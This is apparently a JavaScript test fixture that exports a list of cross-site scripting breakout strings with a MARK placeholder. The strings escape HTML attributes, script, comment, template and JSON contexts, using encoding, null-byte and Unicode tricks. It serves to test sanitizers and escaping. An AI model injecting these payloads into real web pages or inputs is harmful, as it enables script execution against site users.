// Text that wants out of the place that it is written into: attributes, scripts, comments, JSON.
export default (String.raw`
"><img src=x onerror=MARK>
'><img src=x onerror=MARK>
` + '`' + String.raw`><img src=x onerror=MARK>
"'><script>MARK</script>
" onmouseover="MARK" x="
' onmouseover='MARK' x='
" autofocus onfocus=MARK tabindex=1 x="
"/onerror=MARK/src=x
</p><script>MARK</script>
</title><script>MARK</script>
</textarea><script>MARK</script>
</style><script>MARK</script>
</script><script>MARK</script>
</script ><img src=x onerror=MARK>
</noscript><img src=x onerror=MARK>
</iframe><img src=x onerror=MARK>
</template><img src=x onerror=MARK>
</math><img src=x onerror=MARK>
</svg><img src=x onerror=MARK>
</code></pre><img src=x onerror=MARK>
</article></body></html><script>MARK</script>
--><img src=x onerror=MARK>
--!><img src=x onerror=MARK>
]]><img src=x onerror=MARK>
?><img src=x onerror=MARK>
*/MARK/*
\";MARK;//
\u003cimg src=x onerror=MARK\u003e
\x3cimg src=x onerror=MARK\x3e
\"><img src=x onerror=MARK>
{{constructor.constructor('MARK')()}}
\${MARK}
<%= MARK %>
#{MARK}
%3Cimg src=x onerror=MARK%3E
%22%3E%3Cscript%3EMARK%3C/script%3E
&quot;&gt;&lt;img src=x onerror=MARK&gt;
&amp;quot;&amp;gt;&amp;lt;img src=x onerror=MARK&amp;gt;
&#34;&#62;<img src=x onerror=MARK>
&#0;"><img src=x onerror=MARK>
&#x80;&#x9f;&#xD800;<img src=x onerror=MARK>
&#x110000;&#xFFFE;<img src=x onerror=MARK>
&NotAnEntity;&lt&gt<img src=x onerror=MARK>
`).trim().split('\n').concat([
  '\u0000"><img src=x onerror=MARK>', '\u0001p\u0002onclick=MARK\u0003x\u0004', '\u0001script\u0003MARK\u0004',
  '\u0004\u0004\u0004\u0001img\u0002src=x\u0002onerror=MARK\u0004', '\u0002href=javascript:MARK', '<\u0000img src=x onerror=MARK>',
  '<im\u0000g src=x onerror=MARK>', '<img src=x one\u0000rror=MARK>', '<img\u000bsrc=x\u000bonerror=MARK>', '<img\u000csrc=x\u000conerror=MARK>',
  '<\u00a0img src=x onerror=MARK>', '\ufeff<img src=x onerror=MARK>', '\u202e>KRAM=rorreno x=crs gmi<', '\ud800<img src=x onerror=MARK>\udfff',
  '<img src=x onerror\u2028=MARK>', '<İmg src=x onerror=MARK><ſcript>MARK</ſcript>',
]);
